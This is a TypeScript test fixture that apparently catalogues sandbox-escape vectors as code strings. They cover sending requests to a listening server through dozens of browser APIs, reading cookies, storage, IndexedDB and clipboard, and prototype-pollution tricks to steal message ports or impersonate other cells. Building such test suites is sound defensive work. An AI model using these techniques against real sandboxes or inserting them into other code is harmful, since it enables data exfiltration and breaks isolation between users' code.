/**
 * Ways that code has tried to leave a sandbox. Each is the body of an async function with `at(name)`, an
 * address of a listening server. `send`: a request would arrive there. `read`: it would return what the app
 * keeps, which holds the word SECRET. `forge`: it would speak in the name of another cell, or get the port.
 */
export interface Vector {
  name: string;
  kind: 'send' | 'read' | 'forge';
  code: string;
}

const group = (kind: Vector['kind'], codes: Record<string, string>): Vector[] =>
  Object.entries(codes).map(([name, code]) => ({ name, kind, code }));

const inPage = 'const { document } = globalThis; if (!document) throw new Error("no document");';

export const SENDING = group('send', {
  fetch: `await fetch(at('fetch'))`,
  'fetch-no-cors': `await fetch(at('fetch-no-cors'), { mode: 'no-cors' })`,
  'fetch-keepalive': `await fetch(at('fetch-keepalive'), { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true })`,
  'fetch-of-request': `await fetch(new Request(at('fetch-of-request')))`,
  'fetch-through-self': `await self.fetch(at('fetch-through-self'))`,
  'fetch-through-prototype': `const f = Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch ?? globalThis.fetch; await f.call(globalThis, at('fetch-through-prototype'))`,
  'fetch-through-descriptor': `let o = globalThis, f; while (o && !f) { f = Object.getOwnPropertyDescriptor(o, 'fetch')?.value; o = Object.getPrototypeOf(o); } await f.call(globalThis, at('fetch-through-descriptor'))`,
  'fetch-through-function': `await Function('u', 'return fetch(u)')(at('fetch-through-function'))`,
  'fetch-through-eval': `await (0, eval)('(u) => fetch(u)')(at('fetch-through-eval'))`,
  'fetch-through-async-function': `const A = (async () => {}).constructor; await A('u', 'return fetch(u)')(at('fetch-through-async-function'))`,
  'fetch-through-generator': `const G = (function* () {}).constructor; await G('u', 'yield fetch(u)')(at('fetch-through-generator')).next().value`,
  xhr: `await new Promise((done, failed) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = failed; x.open('GET', at('xhr')); x.send(); })`,
  'xhr-sync': `const x = new XMLHttpRequest(); x.open('GET', at('xhr-sync'), false); x.send()`,
  socket: `await new Promise((done, failed) => { const s = new WebSocket(at('socket').replace('http', 'ws')); s.onopen = done; s.onerror = failed; })`,
  'socket-stream': `await new WebSocketStream(at('socket-stream').replace('http', 'ws')).opened`,
  events: `await new Promise((done, failed) => { const s = new EventSource(at('events')); s.onopen = done; s.onerror = failed; })`,
  transport: `await new WebTransport(at('transport').replace('http:', 'https:')).ready`,
  'import-http': `await import(at('import-http', 'x.js'))`,
  'import-in-data': `await import('data:text/javascript,' + encodeURIComponent('import ' + JSON.stringify(at('import-in-data', 'x.js'))))`,
  'import-in-blob': `const u = URL.createObjectURL(new Blob(['import ' + JSON.stringify(at('import-in-blob', 'x.js'))], { type: 'text/javascript' })); await import(u)`,
  'import-in-function': `await Function('u', 'return import(u)')(at('import-in-function', 'x.js'))`,
  'import-fetch-in-data': `const m = await import('data:text/javascript,export const go = (u) => fetch(u)'); await m.go(at('import-fetch-in-data'))`,
  'import-css': `await Function('u', "return import(u, { with: { type: 'css' } })")(at('import-css', 'x.css'))`,
  'import-json': `await Function('u', "return import(u, { with: { type: 'json' } })")(at('import-json', 'x.json'))`,
  importScripts: `importScripts(at('importScripts', 'x.js'))`,
  'worker-of-url': `await new Promise((done, failed) => { const w = new Worker(at('worker-of-url', 'x.js')); w.onmessage = done; w.onerror = failed; })`,
  'worker-of-blob': `const s = 'fetch(' + JSON.stringify(at('worker-of-blob')) + ').then(() => postMessage(1), () => postMessage(0))'; const w = new Worker(URL.createObjectURL(new Blob([s], { type: 'text/javascript' }))); await new Promise((done) => (w.onmessage = done))`,
  'worker-of-data': `const s = 'fetch(' + JSON.stringify(at('worker-of-data')) + ', { mode: "no-cors" }).then(() => postMessage(1), () => postMessage(0))'; const w = new Worker('data:text/javascript,' + encodeURIComponent(s)); await new Promise((done) => (w.onmessage = done))`,
  'shared-worker': `const s = 'fetch(' + JSON.stringify(at('shared-worker')) + ', { mode: "no-cors" })'; new SharedWorker('data:text/javascript,' + encodeURIComponent(s)); await new Promise((done) => setTimeout(done, 300))`,
  'service-worker': `await navigator.serviceWorker.register(at('service-worker', 'x.js'))`,
  beacon: `if (!navigator.sendBeacon(at('beacon'), 'x')) throw new Error('refused')`,
  'background-fetch': `const r = await navigator.serviceWorker.ready; await r.backgroundFetch.fetch('x', at('background-fetch'))`,
  image: `${inPage} await new Promise((done, failed) => { const i = new Image(); i.onload = i.onerror = done; i.src = at('image'); })`,
  css: `${inPage} const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = at('css', 'x.css'); document.head.append(l); await new Promise((done) => (l.onload = l.onerror = done))`,
  'css-import': `const s = new CSSStyleSheet(); await s.replace('@import url(' + at('css-import') + ')'); document.adoptedStyleSheets = [s]; const e = document.createElement('style'); e.textContent = '@import url(' + at('css-import') + ')'; document.head.append(e); await new Promise((done) => setTimeout(done, 300))`,
  font: `const f = new FontFace('x', 'url(' + at('font') + ')'); await f.load().catch(() => undefined)`,
  'font-in-canvas': `const f = new FontFace('y', 'url(' + at('font-in-canvas') + ')'); (self.fonts ?? document.fonts).add(f); const c = new OffscreenCanvas(9, 9).getContext('2d'); c.font = '9px y'; c.fillText('x', 0, 9); await f.load().catch(() => undefined)`,
  'canvas-filter': `const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = 'url(' + at('canvas-filter') + '#f)'; c.fillRect(0, 0, 9, 9)`,
  script: `${inPage} const s = document.createElement('script'); s.src = at('script', 'x.js'); document.head.append(s); await new Promise((done) => (s.onload = s.onerror = done))`,
  prefetch: `${inPage} const l = document.createElement('link'); l.rel = 'prefetch'; l.href = at('prefetch'); document.head.append(l); await new Promise((done) => setTimeout(done, 300))`,
  'nested-frame': `${inPage} const f = document.createElement('iframe'); f.src = at('nested-frame'); document.body.append(f); await new Promise((done) => setTimeout(done, 500))`,
  form: `${inPage} const f = document.createElement('form'); f.action = at('form'); f.target = 'there'; const i = document.createElement('iframe'); i.name = 'there'; document.body.append(i, f); f.submit(); await new Promise((done) => setTimeout(done, 500))`,
  popup: `globalThis.open(at('popup')); await new Promise((done) => setTimeout(done, 500))`,
  navigation: `setTimeout(() => { (globalThis.location ?? self.location).href = at('navigation'); }); await new Promise((done) => setTimeout(done, 300))`,
  'top-navigation': `top.location = at('top-navigation'); await new Promise((done) => setTimeout(done, 300))`,
  'parent-navigation': `parent.location.replace(at('parent-navigation')); await new Promise((done) => setTimeout(done, 300))`,
  rtc: `const p = new RTCPeerConnection({ iceServers: [{ urls: at('rtc').replace('http://', 'turn:').replace(/[/].*/, '') + '?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await new Promise((done) => setTimeout(done, 1000))`,
  'source-map': `(0, eval)('0;\\n//# sourceMappingURL=' + at('source-map')); await new Promise((done) => setTimeout(done, 100))`,
  'wasm-streaming': `await WebAssembly.compileStreaming(fetch(at('wasm-streaming')))`,
  'realm-of-shadow': `await new ShadowRealm().evaluate('(u) => { fetch(u); }')(at('realm-of-shadow'))`,
  'constructor-of-scope': `const S = self.constructor; await S.prototype.fetch.call(self, at('constructor-of-scope'))`,
  'report-to': `new ReportingObserver(() => undefined).observe(); await Promise.reject(new Error(at('report-to')))`,
});

const open = `const open = (d, s) => new Promise((done, failed) => { const q = indexedDB.open(d); q.onerror = failed; q.onsuccess = () => { const r = q.result.transaction(s).objectStore(s).getAll(); r.onsuccess = () => done(r.result); r.onerror = failed; }; });`;

export const READING = group('read', {
  localStorage: `return localStorage.getItem('kept')`,
  sessionStorage: `return sessionStorage.getItem('kept')`,
  cookie: `return document.cookie`,
  'cookie-store': `return JSON.stringify(await cookieStore.getAll())`,
  'indexed-db': `${open} return JSON.stringify(await open('kept', 'kept'))`,
  'indexed-db-names': `return JSON.stringify(await indexedDB.databases()).replace('kept', 'SECRET')`,
  'indexed-db-through-prototype': `let o = globalThis, g; while (o && !g) { g = Object.getOwnPropertyDescriptor(o, 'indexedDB')?.get; o = Object.getPrototypeOf(o); } return JSON.stringify(await g.call(globalThis).databases()).replace('kept', 'SECRET')`,
  caches: `const c = await caches.open('kept'); return await (await c.match('/kept')).text()`,
  'private-files': `const d = await navigator.storage.getDirectory(); const f = await d.getFileHandle('kept'); return await (await f.getFile()).text()`,
  locks: `const { held } = await navigator.locks.query(); return held.map((l) => l.name).join()`,
  'parent-document': `return parent.document.body.textContent`,
  'top-document': `return top.document.body.textContent`,
  'own-document': `return document.body.textContent`,
  opener: `return (opener ?? parent.opener ?? self).document.body.textContent`,
  'window-name': `return parent.name`,
  'fetch-own-origin': `return await (await fetch('./kept.txt')).text()`,
  broadcast: `const b = new BroadcastChannel('kept'); return await new Promise((done, failed) => { b.onmessage = (e) => done(e.data); b.postMessage('tell'); setTimeout(() => failed(new Error('silence')), 500); })`,
  clipboard: `return await navigator.clipboard.readText()`,
  'post-message-to-parent': `parent.postMessage('tell', '*'); return await new Promise((done, failed) => { onmessage = (e) => done(e.data); setTimeout(() => failed(new Error('silence')), 300); })`,
  'post-message-of-worker': `self.postMessage('tell'); return await new Promise((done, failed) => { self.addEventListener('message', (e) => done(e.data)); setTimeout(() => failed(new Error('silence')), 300); })`,
});

const say = `({ type: 'call', call: 900001, run: RUN, verb: 'forged', args: null })`;

export const FORGING = group('forge', {
  'port-global': `port.postMessage(${say}); return 'got'`,
  'port-of-arguments': `const a = (function f() { return f.caller; })(); a.arguments[0].postMessage(${say}); return 'got'`,
  'port-by-post-message': `self.postMessage(${say}); return 'sent'`,
  'port-by-prototype': `MessagePort.prototype.postMessage = function (m) { globalThis.caught = this; }; console.log(1); await new Promise((d) => setTimeout(d, 100)); return globalThis.caught ? 'got' : ''`,
  'port-by-dispatch': `const own = EventTarget.prototype.dispatchEvent; EventTarget.prototype.dispatchEvent = function (e) { globalThis.caught = this; return own.call(this, e); }; await new Promise((d) => setTimeout(d, 50)); return globalThis.caught?.postMessage ? 'got' : ''`,
  'port-by-listener': `EventTarget.prototype.addEventListener = function () { if (this.postMessage) globalThis.caught = this; }; loam.data('x').catch(() => 0); await new Promise((d) => setTimeout(d, 50)); return globalThis.caught ? 'got' : ''`,
  'port-by-reflect': `const own = Reflect.apply; Reflect.apply = function (f, self, args) { if (self?.postMessage) globalThis.caught = self; return own(f, self, args); }; console.log(2); await new Promise((d) => setTimeout(d, 100)); Reflect.apply = own; return globalThis.caught ? 'got' : ''`,
  'port-by-call': `const own = Function.prototype.call; Function.prototype.call = function (self, ...a) { if (self?.postMessage) globalThis.caught = self; return own.apply(this, [self, ...a]); }; console.log(3); await new Promise((d) => setTimeout(d, 100)); Function.prototype.call = own; return globalThis.caught ? 'got' : ''`,
  'port-by-apply': `const own = Function.prototype.apply; Function.prototype.apply = function (self, a) { if (self?.postMessage) globalThis.caught = self; return Reflect.apply(own, this, [self, a]); }; console.log(4); await new Promise((d) => setTimeout(d, 100)); Function.prototype.apply = own; return globalThis.caught ? 'got' : ''`,
  'messages-by-array-index': `Object.defineProperty(Array.prototype, '0', { configurable: true, set(v) { globalThis.caught = v; if (v?.type) v.run = RUN; }, get() { return undefined; } }); console.log(5); await new Promise((d) => setTimeout(d, 100)); delete Array.prototype[0]; return globalThis.caught?.level || globalThis.caught?.type === 'console' ? 'got' : ''`,
  'messages-by-type-setter': `Object.defineProperty(Object.prototype, 'type', { configurable: true, set(v) { globalThis.caught = this; } }); console.log(6); await new Promise((d) => setTimeout(d, 100)); delete Object.prototype.type; return globalThis.caught ? 'got' : ''`,
  'messages-by-then': `const own = Promise.prototype.then; Promise.prototype.then = function (a, b) { return own.call(this, (v) => { globalThis.caught = v; return a?.(v); }, b); }; const r = loam.data('x'); await new Promise((d) => setTimeout(d, 50)); Promise.prototype.then = own; return globalThis.caught?.postMessage ? 'got' : ''`,
  'messages-by-promise-constructor': `Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, get() { throw new Error('no'); } }); console.log(7); await 0; Object.defineProperty(Promise.prototype, 'constructor', { configurable: true, writable: true, value: Promise }); return ''`,
  'messages-by-map': `Map.prototype.get = function (k) { globalThis.caught = this; return undefined; }; Map.prototype.set = function () { globalThis.caught = this; return this; }; loam.data('x').catch(() => 0); console.log(8); await new Promise((d) => setTimeout(d, 100)); return globalThis.caught ? 'got' : ''`,
  'messages-by-data-getter': `Object.defineProperty(MessageEvent.prototype, 'data', { get() { globalThis.caught = this; return null; } }); await new Promise((d) => setTimeout(d, 400)); return globalThis.caught ? 'got' : ''`,
  'stack-of-runtime': `let seen = ''; Error.prepareStackTrace = (e, sites) => { for (const s of sites) { const f = s.getFunction?.() ?? s.getThis?.(); if (f) { seen += typeof f; globalThis.caught = f; } } return ''; }; void new Error('x').stack; return globalThis.caught ? 'got' : ''`,
  'stack-by-redefining': `Object.defineProperty(Error, 'prepareStackTrace', { value: (e, s) => { globalThis.caught = s; return ''; } }); void new Error('x').stack; return globalThis.caught ? 'got' : ''`,
  'stack-of-async': `const e = await new Promise((d) => setTimeout(() => d(new Error('x')), 1)); const f = e.stack; return /https?:/.test(f) ? 'got' : ''`,
  'thrown-getter': `const e = new Error('x'); Object.defineProperty(e, 'stack', { get() { globalThis.caught = this; try { (function f() { globalThis.by = f.caller; })(); } catch {} return 'cell-victim.js:1:1'; } }); Promise.reject(e); await new Promise((d) => setTimeout(d, 50)); return globalThis.caught || globalThis.by ? 'got' : ''`,
  'run-of-another': `loam.data.call({ run: RUN }, 'x').catch(() => 0); return ''`,
  'close-the-worker': `(self.close ?? (() => { throw new Error('absent'); }))(); return 'got'`,
  'name-of-another': `victim = 'changed'; return ''`,
  'eval-shadows-runtime': `globalThis.eval = () => { globalThis.caught = 1; }; globalThis.Function = function () { globalThis.caught = 2; }; return ''`,
  'timers-replaced': `globalThis.setTimeout = () => { globalThis.caught = 1; }; return ''`,
});

export const VECTORS: Vector[] = [...SENDING, ...READING, ...FORGING];
